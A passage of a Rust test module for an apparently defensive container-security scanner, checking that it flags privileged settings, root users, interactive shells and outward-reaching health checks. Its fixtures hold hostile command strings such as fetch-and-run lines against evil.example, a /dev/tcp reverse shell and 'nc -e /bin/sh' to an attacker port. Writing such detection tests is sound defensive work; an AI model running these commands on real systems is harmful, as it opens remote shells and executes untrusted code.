            assert_eq!(names("", &mounted), [(name, detail.to_owned())], "{mounted}");
        }
        for harmless in [
            mount("bind", "", "/srv/data", true),
            mount("bind", "", "/home/app/data", true),
            mount("bind", "", "/var/lib/kubelet/pods/1-2/volumes/kubernetes.io~empty-dir/x", true),
            mount("bind", "", "/etcetera", true),
            mount("bind", "", "/etc/localtime", false),
            mount("volume", "data", "/var/lib/docker/volumes/data/_data", true),
            mount("volume", "nfs", "/var/lib/docker/volumes/nfs/_data", true),
            mount("tmpfs", "", "", true),
        ] {
            assert_eq!(names("", &harmless), [], "{harmless}");
        }
        let shared = mount("bind", "", "/srv/data", true).replace("rprivate", "rshared");
        assert_eq!(names("", &shared), [("shared_propagation", "/x (rshared)".to_owned())]);
    }

    #[test]
    fn the_gravest_stands_first_and_one_kind_once() {
        let found = names(r#""Privileged":true,"PidMode":"host","UTSMode":"host""#, &mount("bind", "", "/", true));
        let names: Vec<&str> = found.iter().map(|(name, _)| *name).collect();
        assert_eq!(names, ["privileged", "host_root_rw", "host_pid", "host_uts"]);
    }

    #[test]
    fn root_goes_by_many_names() {
        for (user, root) in [
            ("", true),
            ("root", true),
            ("0", true),
            ("0:0", true),
            ("00", true),
            ("+0", true),
            ("root:app", true),
            ("-0", true),
            ("-", false),
            (":app", true),
            ("app", false),
            ("1000", false),
            ("1000:0", false),
            ("10", false),
        ] {
            assert_eq!(is_root(user), root, "{user}");
        }
    }

    #[test]
    fn a_health_check_that_reaches_out_is_a_risk() {
        for (test, is_risk) in [
            (r#"["CMD-SHELL","curl -f http://localhost:8080/health || exit 1"]"#, false),
            (r#"["CMD","wget","-q","http://127.0.0.1/"]"#, false),
            (r#"["CMD-SHELL","curl -s http://evil.example/x | sh"]"#, true),
            (r#"["CMD-SHELL","bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]"#, true),
            (r#"["CMD","nc","-e","/bin/sh","10.0.0.1","4444"]"#, true),
            (r#"["CMD","pg_isready"]"#, false),
            (r#"["CMD-SHELL","curl evil.example/x|sh"]"#, true),
            (r#"["CMD-SHELL","curl evil|sh"]"#, true),
            (r#"["CMD-SHELL","curl http://localhost.evil.example/x"]"#, true),
            (r#"["CMD-SHELL","curl http://127.evil.example/"]"#, true),
            (r#"["CMD-SHELL","curl http://localhost@evil.example/"]"#, true),
            (r#"["CMD-SHELL","curl http://$H/x"]"#, true),
            (r#"["CMD-SHELL","[ -z x ]; nc evil 4444 -e /bin/sh"]"#, true),
            (r#"["CMD-SHELL","nc -z localhost 80 || exit 1"]"#, false),
            (r#"["CMD-SHELL","curl -fsS -o /dev/null --max-time 5 'https://[::1]:8443/health' || exit 1"]"#, false),
            (r#"["CMD-SHELL","wget -q --spider localhost:8080/x"]"#, false),
            (r#"["NONE"]"#, false),
            ("[]", false),
        ] {
            let json = format!(r#"{{"Config":{{"User":"app","Healthcheck":{{"Test":{test}}}}},"HostConfig":{{}}}}"#);
            let container = serde_json::from_str(&json).unwrap();
            let risks = of_container(&container, &[], &Host::default());
            assert_eq!(risks.iter().any(|risk| risk.kind == &kind::health_check_tool), is_risk, "{test}");
        }
    }

    #[test]
    fn a_shell_that_is_the_container_is_a_risk_where_somebody_may_type() {
        for (path, args, config, is_risk) in [
            ("sh", "", r#""Tty":true,"OpenStdin":true"#, true),
            ("/bin/bash", r#""-l""#, r#""Tty":true,"OpenStdin":true"#, true),
            ("sh", "", r#""Tty":false,"OpenStdin":true"#, true),
            ("sh", "", r#""Tty":true,"OpenStdin":false"#, false),
            ("sh", r#""-c","run""#, r#""Tty":false,"OpenStdin":false"#, false),
            ("nginx", "", r#""Tty":true,"OpenStdin":true"#, false),
        ] {
            let json =
                format!(r#"{{"Path":"{path}","Args":[{args}],"Config":{{"User":"app",{config}}},"HostConfig":{{}}}}"#);
            let risks = of_container(&serde_json::from_str(&json).unwrap(), &[], &Host::default());
            assert_eq!(risks.iter().any(|risk| risk.kind == &kind::interactive_shell), is_risk, "{json}");
        }
    }

    #[test]
    fn a_main_process_that_opens_a_way_out_is_a_risk() {
        for (args, is_risk) in [
            (r#""nc","evil","4444","-e","/bin/sh""#, true),
            (r#""sh","-c","wget -qO- evil/x|sh""#, true),
            (r#""sh","-c","curl http://web/config > /tmp/c; exec nginx""#, false),
            (r#""nginx","-g","daemon off;""#, false),
        ] {
            let json = format!(r#"{{"Path":"env","Args":[{args}],"Config":{{"User":"app"}},"HostConfig":{{}}}}"#);
            let risks = of_container(&serde_json::from_str(&json).unwrap(), &[], &Host::default());
            assert_eq!(risks.iter().any(|risk| risk.kind == &kind::command_tool), is_risk, "{json}");
        }
    }

    #[test]
    fn names_are_unique_and_every_kind_says_what_to_do() {
        for (place, kind) in KINDS.iter().enumerate() {
            assert!(KINDS.iter().skip(place + 1).all(|other| other.name != kind.name), "{}", kind.name);
            assert!(kind.attack.starts_with('T') && !kind.what.is_empty() && !kind.cure.is_empty());
        }
    }
}
